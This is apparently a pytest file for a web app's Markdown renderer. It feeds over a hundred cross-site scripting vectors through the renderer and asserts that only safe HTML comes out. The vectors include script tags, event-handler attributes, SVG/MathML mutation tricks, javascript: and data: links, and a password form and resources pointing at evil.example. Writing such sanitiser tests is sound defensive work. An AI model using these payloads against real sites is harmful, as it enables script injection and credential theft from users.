"""No text can put anything into a page but text, its structure, and plain links, as an HTML parser judges.

The vectors are of the kinds listed by well-known cheat sheets on cross-site scripting;
tests/api/content/test_section_access.py sends them through the API."""

import time
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from domain.content.markdown import render
from tests.nightly import tried

ELEMENTS = set(
    "p br hr strong em s code sup pre blockquote ul ol li a h3 h4 h5 h6 table thead tbody tr th td".split()  # noqa: SIM905
)
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start", "class"}, "ul": {"class"}, "li": {"class", "dir"}}
ATTRIBUTES |= {name: {"dir"} for name in ("p", "blockquote", "h3", "h4", "h5", "h6")}
ALIGNED = {"th": {"align", "dir"}, "td": {"align", "dir"}}
CLASSES = {"contains-task-list", "task-list-item"}

BELL, TAB, NUL = "\x07", "\t", "\0"
VECTORS = [
    # Raw HTML, whole, broken and nested
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script\x0c>",
    f"<scr{NUL}ipt>alert(1)</scr{NUL}ipt>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<script>alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea></style></script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x`><script>alert(1)</script>"`>',
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a onmouseover=alert(1)>x</a>",
    "<p style=x onclick=alert(1)//>x</p>",
    # SVG, MathML and what parsers change on the way
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    # Elements that load, move or catch
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<span style='position:fixed;inset:0' class='overlay' id=login>x</span>",
    "<audio src=https://evil.example/x.mp3 autoplay>",
    # Links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script&colon;alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](j%61vascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    f"[x]({BELL}javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/logout)",
    "[x](?q=1#top)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://a.example '\"><script>alert(1)</script>')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/&quot;onmouseover=&quot;alert(1))",
    "[<script>alert(1)</script>](https://a.example)",
    "[a[b](javascript:alert(1))c](https://a.example)",
    "[[x](javascript:alert(1))](javascript:alert(2))",
    # Autolinks and reference definitions
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    "<https://a.example/onmouseover=alert(1)//>",
    "<x@a.example?subject=<script>>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> 'title'",
    "[x]\n\n[x]: https://a.example '\" onclick=alert(1)'",
    "[<img src=x onerror=alert(1)>]\n\n[<img src=x onerror=alert(1)>]: https://a.example",
    # Pictures
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    '![" onerror="alert(1)](https://a.example/x.png)',
    "![x](https://a.example/x.png '\" onerror=alert(1) \"')",
    "![<script>alert(1)</script>](https://a.example/x.png)",
    "[![x](https://a.example/x.png)](javascript:alert(1))",
    "![[x](javascript:alert(1))](https://a.example/x.png)",
    "![![x](javascript:alert(1))](javascript:alert(2))",
    # Inside of other structures
    "| a | b |\n|:-:|--:|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    '| a |\n|:-" onclick=alert(1) :|\n| b |',
    "- [ ] <img src=x onerror=alert(1)>\n- [x] [y](javascript:alert(1))",
    '- [x" onclick=alert(1)] y',
    '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
    "```<script>alert(1)</script>\nx\n```",
    "~~~ ' onmouseover=alert(1) '\n</code></pre><script>alert(1)</script>\n~~~",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "# <svg onload=alert(1)> [x](javascript:alert(1))",
    '1" onclick="alert(1). x\n2. y',
    "**<b onclick=alert(1)>**_<i>_~~<s>~~",
    "&<script&>alert(1)</script>",
]


class Judge(HTMLParser):
    """Collects whatever must not be in a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()) | ALIGNED.get(tag, set()):
                self.wrong.append(f"<{tag} {name}={value}>")
            if name == "href":
                self.links.append(value or "")
            if name == "class" and value not in CLASSES:
                self.wrong.append(f"class {value}")
        if tag == "a" and dict(attrs).get("rel") != "nofollow noopener noreferrer":
            self.wrong.append("a link without rel")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"<![{data}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}")


def check(html: str) -> list[str]:
    """The links, after everything in it was found harmless."""
    judge = Judge()
    judge.feed(html)
    judge.close()
    assert not judge.wrong, f"{judge.wrong} in {html}"
    for link in judge.links:
        assert link.startswith(("https://", "http://", "mailto:")), f"{link} in {html}"
        assert not any(one <= " " or one in "\"'<>" for one in link), link
    return judge.links


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_gets_through(vector: str) -> None:
    for text in (vector, f"x {vector} y", f"- a\n\n  {vector}", f"> {vector}", f"*{vector}*", f"{vector}\n{vector}"):
        check(render(text))


def test_the_corpus_is_large_and_the_judge_is_strict() -> None:
    assert len(set(VECTORS)) == len(VECTORS) >= 80
    for bad in (
        "<script>",
        "<p onclick=x>",
        "<p style=x>",
        "<img src=x>",
        "<a href=javascript:x rel='nofollow noopener noreferrer'>",
        "<a href=/x rel='nofollow noopener noreferrer'>",
        "<a href=https://a.example>",
        "<!-- x -->",
        "<svg>",
        "<li class=overlay>",
    ):
        with pytest.raises(AssertionError):
            check(bad)


PIECES = ["<", ">", '"', "'", "`", "[", "]", "(", ")", "!", "|", "-", "\n", " ", "&", "#", ":", "\\", "*", "~~", "```"]
PIECES += ["javascript:", "https://a.example", "<svg onload=", "<!--", "-->", "x", "- [ ] ", "> ", "&colon;", "|-|-|\n"]


@settings(max_examples=tried(300, 1500), derandomize=True, database=None, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_nothing_gets_through_by_chance(text: str) -> None:
    html = render(text)
    check(html)
    again = nh3.clean(html, link_rel=None, attributes={"*": {"href", "title", "rel", "start", "class", "align", "dir"}})
    assert again == html, "a browser's parser would make something else of it"


def test_what_people_write_looks_as_they_meant() -> None:
    html = render(
        "# Cause\n\nThe **pool** was *full*, ~~not~~ `busy`; see [the graph](https://a.example/g?a=1&b=2 'load').\n\n"
        "| time | what |\n|:--|--:|\n| 14:00 | alert |\n\n- [x] raise\n- [ ] alert\n\n3. three\n4. four\n\n"
        "```sql\nselect 1 < 2;\n```\n\n![chart](https://a.example/c.png) <mailto:x@a.example>"
    )
    assert check(html) == ["https://a.example/g?a=1&b=2", "https://a.example/c.png", "mailto:x@a.example"]
    for part in (
        '<h3 dir="auto">Cause</h3>',
        "<strong>pool</strong>",
        "<em>full</em>",
        "<s>not</s>",
        'title="load"',
        'align="left">time</th>',
        'align="right">alert</td>',
        '<ul class="contains-task-list">',
        '<li class="task-list-item" dir="auto">\u2611 raise</li>',
        '<li class="task-list-item" dir="auto">\u2610 alert</li>',
        '<ol start="3">',
        "select 1 &lt; 2;",
        ">chart</a>",
    ):
        assert part in html, part


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("see https://a.example/x_y_z?a=1&b=2.", ">https://a.example/x_y_z?a=1&amp;b=2</a>."),
        ("https://a.example/%E9%9A%9C", ">https://a.example/%E9%9A%9C</a>"),
        (
            "why[^1]\n\n[^1]: because *so*",
            '<p dir="auto">why<sup>1</sup></p>\n<p dir="auto"><sup>1</sup> because <em>so</em></p>',
        ),
        ("[^note]: nobody refers to it", "<sup>note</sup> nobody refers to it"),
        ("| a |\n|---|\n| x<br>y<BR/>z |", "x<br>\ny<br>\nz"),
        ('<img width=9 alt="a graph" src="https://a.example/g.png">', 'href="https://a.example/g.png"'),
        ('<img alt="a graph" src="https://a.example/g.png">', ">a graph</a>"),
        ("<img src='https://a.example/g.png'/>", ">https://a.example/g.png</a>"),
        ("a <!-- for authors --> b", '<p dir="auto">a  b</p>'),
        ("<!-- for\n\n# authors -->\nb", '<p dir="auto">b</p>'),
        ("`<!-- shown -->`", "<code>&lt;!-- shown --&gt;</code>"),
        ("<b>x</b>", "&lt;b&gt;x&lt;/b&gt;"),
        (
            "\u0645\u0631\u062d\u0628\u0627\n\nhello",
            '<p dir="auto">\u0645\u0631\u062d\u0628\u0627</p>\n<p dir="auto">hello</p>',
        ),
    ],
)
def test_what_people_paste_is_shown_as_they_see_it_elsewhere(markdown: str, html: str) -> None:
    shown = render(markdown)
    check(shown)
    assert html in shown
    assert "for authors" not in shown


@pytest.mark.parametrize(
    "piece",
    [
        "[^a](",
        "<img ",
        "<!--\n",
        "https://",
        "[^1]: ",
        "- [ ] a\n",
        "- [x](",
        "![",
        "[a](",
        "> ",
        "|a",
        "*a ",
        "`",
        "&",
        "<!--",
        "#\n",
        "1. ",
    ],
)
def test_long_texts_are_rendered_in_time(piece: str) -> None:
    text = piece * (200_000 // len(piece))
    begun = time.process_time()
    check(render(text))
    assert time.process_time() - begun < 20


@pytest.mark.parametrize("mark", ["> ", "- ", "1. ", "> - ", "- > 1. "])
@pytest.mark.parametrize("depth", [9, 10, 15, 21, 100, 2000])
def test_what_is_nested_too_deep_is_shown_as_text(mark: str, depth: int) -> None:
    html = render(f"before\n\n{mark * depth}deep\n\nafter\n\n- [x] last")
    check(html)
    for word in ("before", "deep", "after", "last"):
        assert word in html, "nothing is lost, neither there nor below it"
    assert html.index("deep") < html.index("after")


def test_a_list_that_is_indented_too_deep_is_shown_as_text() -> None:
    levels = "\n".join(f"{'  ' * level}- level {level} end" for level in range(40))
    html = render(f"{levels}\n- a second entry\n\nafter")
    assert all(f"level {level} end" in html for level in range(40))
    assert html.endswith('<p dir="auto">after</p>\n')
    assert "second entry" in html
